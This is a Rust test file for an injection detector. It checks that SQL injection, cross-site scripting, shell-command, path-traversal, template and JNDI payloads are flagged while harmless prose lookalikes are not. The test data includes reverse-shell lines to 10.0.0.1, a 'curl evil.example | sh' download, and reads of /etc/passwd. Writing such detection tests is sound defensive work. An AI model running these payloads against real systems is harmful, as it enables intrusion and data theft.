//! Both sides of each grammar: what breaks out, alone and with prose around it, and its lookalikes, which do not.

use proptest::prelude::*;

use super::*;

fn all() -> Classes {
    Classes(u16::MAX)
}

fn field(kind: ContentKind) -> Field {
    Field {
        kind,
        may_be_code: false,
        is_document: false,
    }
}

/// Whether a value counts for a rule of no class of its own.
fn breaks(kind: ContentKind, value: &str) -> bool {
    counts(Classes::SQL, field(kind), value.as_bytes())
}

const TEXT: [ContentKind; 3] = [ContentKind::Prose, ContentKind::Markdown, ContentKind::Html];

/// Each counts alone, behind a sentence, and between two.
fn attacks(values: &[&str]) {
    for kind in TEXT {
        for value in values {
            let padded = [
                (*value).to_owned(),
                format!("Thank you for the good article! {value}"),
                format!("Here is what I think of it, {value} and many greetings from us"),
            ];
            for value in padded {
                assert!(breaks(kind, &value), "{kind:?}: {value}");
            }
        }
    }
}

/// None counts in any field for text.
fn lookalikes(values: &[&str]) {
    for kind in TEXT {
        for value in values {
            assert!(!breaks(kind, value), "{kind:?}: {value}");
        }
    }
}

#[test]
fn words_that_are_looked_up_are_sorted() {
    assert!(sql::functions_are_sorted());
    assert!(script::roots_are_sorted());
    assert!(shell::lists_are_sorted());
    assert!(expression::functions_are_sorted());
    assert!(text::lists_are_sorted());
}

#[test]
fn sql_counts_where_it_leaves_its_string() {
    attacks(&[
        "' OR 1=1--",
        "' OR '1'='1",
        "\" or 1=1--",
        "') OR ('1'='1",
        "x' UNION SELECT password FROM users#",
        "' UNION ALL SELECT username, password FROM users--",
        "'/**/UNION/**/SELECT/**/1,2,3--",
        "'; DROP TABLE users;--",
        "'; EXEC xp_cmdshell('dir')--",
        "' AND SLEEP(5)#",
        "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- -",
        "'||(SELECT password FROM users LIMIT 1)||'",
        "' HAVING 1=1--",
        "' ORDER BY 10--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1 OR 1=1",
        "1; DROP TABLE users",
        "1 AND SLEEP(5)",
        "-1 UNION SELECT 1,2,3",
    ]);
    for value in [
        "admin'--",
        "'='",
        "' or true--",
        "1' or 'a'='a",
        "'%20or%201=1--",
    ] {
        assert!(breaks(ContentKind::Prose, value), "{value}");
    }
}

#[test]
fn sentences_with_words_of_sql_do_not_count() {
    lookalikes(&[
        "Please select the best from our menu where you find it",
        "It's 'fine' or 'good', I can't say which",
        "Rock 'n' roll and the '80s were great, weren't they?",
        "The users' choice is a union of both; select one, drop the table idea or insert a coin",
        "She said \"yes\" and \"no\" or \"maybe\" = confusing",
        "Use SELECT name FROM users WHERE id = 'x' AND active = 1 to list them",
        "The query was: SELECT * FROM orders WHERE status = 'open' UNION SELECT * FROM archive WHERE status = 'open';",
        "Would you like to have 1 or 2",
        "Values are separated by '|' and read as an OR, use '||' or '&&' when you like",
        "If (you like) we could order by mail; delete the old one from the list -- or not",
        "Prices between 10 and 20 or 30 = cheap, and 1 or 2 are enough",
        "Update: set the alarm clock, then call (or execute) the plan",
        "L'homme n'est ni 'bon' ni 'mauvais' ; c'est l'union qui compte",
    ]);
}

#[test]
fn markup_counts_where_it_runs_script() {
    attacks(&[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"java&#9;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "[click](javascript:alert(1))",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<details open ontoggle=alert(1)>",
        "<math><maction xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "\"><script>alert(1)</script>",
        "\" onmouseover=alert(1) x=\"",
        "</textarea><script>alert(1)</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "';alert(1)//",
        "\"-alert(1)-\"",
        "${alert(1)}",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ]);
    for value in [
        "javascript:alert(1)",
        "alert(document.cookie)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ] {
        assert!(breaks(ContentKind::Prose, value), "{value}");
    }
}

#[test]
fn mentions_of_markup_do_not_count() {
    lookalikes(&[
        "The <img> tag needs an alt attribute, and <img src=\"a.png\" alt=\"a\"> has one",
        "Put the <script> tag before </body>, not in the <head>",
        "A Vec<T> or Map<String, List<Integer>> is generic, a < b and b > c are not",
        "In a <script> tag you can call alert() or eval(x), as you like",
        "I <3 this, it is great: 1 < 2 and onclick = fun",
        "The onerror handler is called when loading fails; see document.location for more",
        "Write &lt;script&gt;alert(1)&lt;/script&gt; when you want to show a script in a page",
        "Call alert(1) to test it, or console.log(value) where you can",
        "Bookmarklets begin with javascript: and then the code",
        "**Bold**, <b>bold</b> and <em>emphasis</em> are <a href=\"https://example.com/?a=1&b=2\">all fine</a>",
    ]);
    let code = "Markdown shows `<script>alert(1)</script>` as it is, and so do fences:\n\n```html\n<img src=x onerror=alert(1)>\n```\n";
    assert!(!breaks(ContentKind::Markdown, code));
    assert!(
        breaks(ContentKind::Prose, code),
        "a comment that is no Markdown is shown as HTML"
    );
    let embedded = "<p>Look at this video:</p><iframe src=\"https://video.example/1\"></iframe>";
    assert!(!breaks(ContentKind::Html, embedded));
    assert!(breaks(ContentKind::Prose, embedded));
}

#[test]
fn commands_count_where_they_leave_their_argument() {
    attacks(&[
        "; cat /etc/passwd",
        "|cat /etc/passwd",
        "&& cat /etc/passwd",
        "$(cat /etc/passwd)",
        "$(id)",
        "; whoami",
        "| nc 10.0.0.1 4444 -e /bin/sh",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "; curl http://evil.example/x.sh | sh",
        "; python3 -c \"import pty;pty.spawn('/bin/bash')\"",
        ";cat${IFS}/etc/passwd",
        ";c'a't /etc/passwd",
        "; ping -c 4 evil.example",
        "() { :;}; /bin/bash -c 'id'",
        "& type C:\\Windows\\win.ini",
        "'; cat /etc/passwd; '",
    ]);
    for value in [
        "`id`",
        "x`id`",
        ";id",
        "127.0.0.1; ls -la",
        "x\ncat /etc/passwd",
    ] {
        assert!(breaks(ContentKind::Prose, value), "{value}");
    }
}

#[test]
fn a_line_of_commands_is_one_for_rules_about_commands() {
    let shell = |value: &str| counts(Classes::SHELL, field(ContentKind::Prose), value.as_bytes());
    for value in [
        ";cpulimit -l 100 -f program",
        "time; ansible all -m ping",
        "time; visudo",
        "alias ls-al='ls -al'",
        "ksh -c \"curl example\"",
        ";trap 'rm -rf file.txt' SIGEXIT",
    ] {
        assert!(shell(value), "{value}");
    }
    for value in [
        "; and then we all went home, happily",
        "Time; money; fun: all you need is here and now",
        "The alias is set to a=b in the shell",
        "| name | value of it |",
        "We had tea; ansible runs at night",
        "sudo apt-get update && sudo apt-get install -y nginx",
    ] {
        assert!(!shell(value), "{value}");
    }
}

#[test]
fn how_tos_do_not_count() {
    lookalikes(&[
        "Edit /etc/hosts and restart; then sort the list | or leave it",
        "Install it with `npm install && npm run build`, then `cat package.json | grep name`",
        "Run:\n\n    apt update && apt install -y curl\n    curl https://example.com/i.sh | sh\n\nand you are done",
        "First call\n$ cd project; make install\n$ cat README.md | less\nand read it",
        "```sh\nfor f in *.txt; do cat $f | grep -v foo; done\nrm -rf build; ls -la\n```\nThat is all it takes",
        "| id | name |\n|----|------|\n| ls | list |\n| ps | processes |",
        "We offer tea; coffee; cake. Find attached the menu & the price list | call us",
        "Salt & pepper; echo chamber; the cat sat on the mat; time flies",
        "jQuery's $(document).ready() and $(this).find('a') are old, $PATH and ${HOME} are variables",
    ]);
}

#[test]
fn a_path_or_an_address_is_one_as_a_whole_value() {
    let path = |value: &str| counts(Classes::PATH, field(ContentKind::Prose), value.as_bytes());
    for value in [
        "../../../../etc/passwd",
        "/etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "C:\\Windows\\win.ini",
    ] {
        assert!(path(value), "{value}");
    }
    assert!(path("Have a look at this ../../../../etc/passwd please"));
    for value in [
        "Have a look at /etc/passwd and /etc/hosts",
        "It imports ../../lib/index.js and ../util, as it should",
    ] {
        assert!(!path(value), "{value}");
    }
    let address = |value: &str| {
        counts(
            Classes::ADDRESS,
            field(ContentKind::Prose),
            value.as_bytes(),
        )
    };
    assert!(address("http://169.254.169.254/latest/meta-data/"));
    assert!(!address(
        "The metadata service is at http://169.254.169.254/latest/meta-data/ on most clouds"
    ));
}

#[test]
fn expressions_count_where_they_would_be_evaluated() {
    attacks(&[
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<%= system('id') %>",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "<?php system('id'); ?>",
        "';phpinfo();//",
        "{${system('id')}}",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    ]);
    for value in [
        "phpinfo()",
        "T(java.lang.Runtime).getRuntime().exec('calc')",
        "require('child_process').exec('id')",
    ] {
        assert!(breaks(ContentKind::Prose, value), "{value}");
    }
    lookalikes(&[
        "Dear {{name}}, your order {{ order.id | upper }} of ${price} is on its way",
        "Exception in thread \"main\" java.lang.NullPointerException\n\tat java.lang.Runtime.exec(Runtime.java:1)\n\tat a.B.c(B.java:2)",
        "Call phpinfo() or system() to see it, but never eval() what a user gives you",
        "The <?php tag opens a block, and ?> closes it again",
        "Python has __init__ and __class__ on every object, see the manual",
        "We use process.env and require('fs') in all our scripts",
    ]);
}

#[test]
fn filters_count_where_they_close_what_they_did_not_open() {
    let filter = |value: &str| counts(Classes::LDAP, field(ContentKind::Prose), value.as_bytes());
    assert!(filter("my name is *)(uid=*))(|(uid=* thank you"));
    for value in [
        "a) one thing (or two) b) another thing",
        "nice :-) (really) it is",
        "f(x) = (a + b)(c) is what we call it",
    ] {
        assert!(!filter(value), "{value}");
    }
}

#[test]
fn lines_of_http_count_in_short_values() {
    let lines = |value: &str| counts(Classes::LINES, field(ContentKind::Prose), value.as_bytes());
    assert!(lines("nice words here\r\nSet-Cookie: a=b"));
    assert!(!lines(
        "Whether the site supports HTTP/2 and HTTP/1.1 is told here"
    ));
    assert!(!lines("First line\nLocation of the shop\nHosted by us"));
}

#[test]
fn in_code_only_what_breaks_out_at_once_counts() {
    for kind in [ContentKind::Code, ContentKind::Pattern, ContentKind::Query] {
        for value in [
            "SELECT * FROM users WHERE name = 'x' OR 1=1; DROP TABLE users;",
            "const a = 'x' + document.cookie;\nif (a == 'b' || c == 'd') { alert(1); }\n",
            "#!/bin/sh\ncd /tmp; cat /etc/passwd | grep root && id\n",
            "^(?:select|union)\\s+'[^']*'|<script[^>]*>|;\\s*cat$",
            "<?php system($_GET['a']); ?>\n<p>\n",
        ] {
            let value = if kind == ContentKind::Pattern && value.starts_with('c') {
                "[a-z]+|id|ls"
            } else {
                value
            };
            if kind == ContentKind::Pattern && value.contains("<?php") {
                continue;
            }
            assert!(!breaks(kind, value), "{kind:?}: {value}");
        }
        for value in [
            "' OR 1=1--",
            "x'; DROP TABLE users;--",
            "'; cat /etc/passwd",
        ] {
            assert!(breaks(kind, value), "{kind:?}: {value}");
        }
    }
    assert!(breaks(ContentKind::Code, "\"><script>alert(1)</script>"));
}

#[test]
fn a_value_without_a_sentence_counts_as_in_any_field() {
    for value in ["information_schema", "sleep(", "<x onend=", "/usr/bin/id"] {
        assert!(breaks(ContentKind::Prose, value), "{value}");
        assert!(breaks(ContentKind::Other, value), "{value}");
    }
    let line = Field {
        kind: ContentKind::Prose,
        may_be_code: true,
        is_document: false,
    };
    assert!(!counts(Classes::SQL, line, b"x = information_schema"));
}

#[test]
fn formulas_and_regular_expressions_are_weighed_as_text() {
    lookalikes(&[
        "((x+1)*(x-1))/(2*x) = 0 => x = 1 or x = -1",
        "sum(i=1..n) i = n(n+1)/2, exp(log(x)) = x, min(a,b) <= max(a,b)",
        r"(?i)\b(select|update)\b.+?\bfrom\b",
        r"/<script[^>]*>.*?<\/script>/gi",
        r"s/(\w+)\s+(\w+)/\2 \1/g; y/a-z/A-Z/",
    ]);
    for value in [
        "x or 1=1 + a - b * c",
        "a' or b=b or c=c or d=d-- ",
        r"[^a]\s.*' or 1=1--",
        "1 or sleep(5) + x - y * z / w",
        r"[^a]+\s.*<script>alert(1)</script>",
    ] {
        assert!(breaks(ContentKind::Prose, value), "{value}");
    }
}

#[test]
fn strings_of_shown_code_begin_with_what_they_hold() {
    lookalikes(&[
        "Then call\ncursor.execute('select version()')\nprint(\"done: \", cursor.fetchone())",
        "Do not write \"SELECT * FROM users WHERE name = '\" + name + \"'\" but use parameters",
        "BEGIN; SELECT pg_sleep(1); ROLLBACK; -- shows how locks behave here",
    ]);
    attacks(&["x' select password from users--", "1; SELECT pg_sleep(5)--"]);
}

#[test]
fn what_cannot_run_in_a_page_does_not_count() {
    lookalikes(&[
        "In React, <button onClick={() => setCount(count + 1)}>Add</button> renders again",
        "Put the <script src=\"js/app.js\" defer></script> at the end of the body",
        " common/attrs.c | 23 ++++++\n trust/tests/frob.c | 174 ++++++++++++++++++++++++++++---\n 3 files changed, 164 insertions(+), 35 deletions(-)",
        "* [[`84cea7b30d`](https://git.example/commit/84cea7b30d)] - Remove old test scripts",
    ]);
    attacks(&[
        "<img src=x onerror={alert(1)}>",
        "<script src=//evil.example/x.js></script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<script src=\"data:text/javascript,alert(1)\"></script>",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
    ]);
}

#[test]
fn quotes_of_a_document_are_its_own() {
    let of = |value: &str| counts(Classes::SQL, Field::of_document(), value.as_bytes());
    assert!(!of(
        r#"{"msg":"syntax error at or near \"SELECT\"","query":"SELECT id FROM users WHERE","n":1}"#
    ));
    assert!(!of(r#"{"inner":"{\"note\":\"\\u65e5\\u672c\"}"}"#));
    assert!(of(r#"{"name":"x' or 1=1--"}"#));
    assert!(of(r#"{"x' or 1=1--":1}"#));
    assert!(of(r#"{"a":"<img src=x onerror=alert(1)>"}"#));
}

#[test]
fn rules_of_no_known_attack_are_not_weighed() {
    assert_eq!(Classes::of(&[]), Classes::NONE);
    assert_eq!(Classes::of(&[Attack::Sql]), Classes::SQL);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    /// No value makes a grammar panic, whatever its bytes.
    #[test]
    fn any_value_is_weighed(bytes in proptest::collection::vec(any::<u8>(), 0..300), kind in 0..7_usize) {
        let kinds = [ContentKind::Other, ContentKind::Prose, ContentKind::Markdown, ContentKind::Html, ContentKind::Code, ContentKind::Pattern, ContentKind::Query];
        let _ = counts(all(), field(kinds[kind]), &bytes);
    }

    /// The same of values made of what grammars look for.
    #[test]
    fn any_pieces_are_weighed(pieces in proptest::collection::vec(0..PIECES.len(), 0..60), kind in 1..7_usize) {
        let kinds = [ContentKind::Other, ContentKind::Prose, ContentKind::Markdown, ContentKind::Html, ContentKind::Code, ContentKind::Pattern, ContentKind::Query];
        let value: String = pieces.into_iter().map(|piece| PIECES[piece]).collect();
        let _ = counts(all(), field(kinds[kind]), value.as_bytes());
    }

    /// Prose around an attack hides it no more than nothing does.
    #[test]
    fn prose_does_not_hide(before in "([a-zA-Z]{2,9}[,.!]? ){2,12}", after in "( [a-z]{2,9}){0,8}", attack in 0..HIDDEN.len()) {
        let value = format!("{before}{}{after}", HIDDEN[attack]);
        for kind in TEXT {
            prop_assert!(breaks(kind, &value), "{:?}: {}", kind, value);
        }
    }
}

const HIDDEN: [&str; 6] = [
    "' UNION SELECT password FROM users#",
    "' OR 1=1--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "$(cat /etc/passwd)",
    "{{7*7}}",
];

const PIECES: [&str; 60] = [
    "'",
    "\"",
    "`",
    "```",
    "\n",
    " ",
    "<",
    ">",
    "<a ",
    "<script>",
    "</script>",
    "<style>",
    " on",
    "onload=",
    "=",
    "](",
    "javascript:",
    "${",
    "}",
    "{{",
    "}}",
    "{%",
    "<%",
    "%>",
    "#{",
    "<?php",
    "?>",
    ";",
    "|",
    "&",
    "&&",
    "||",
    "$(",
    "id",
    "cat",
    "/etc/passwd",
    "..",
    "../",
    "or",
    "and",
    "union",
    "select",
    "from",
    "1",
    "(",
    ")",
    ",",
    "--",
    "#",
    "/*",
    "*/",
    "sleep(",
    "O:1:\"",
    "jndi:",
    "java.",
    "&#106;",
    "%27",
    "\\",
    "é",
    "\0",
];
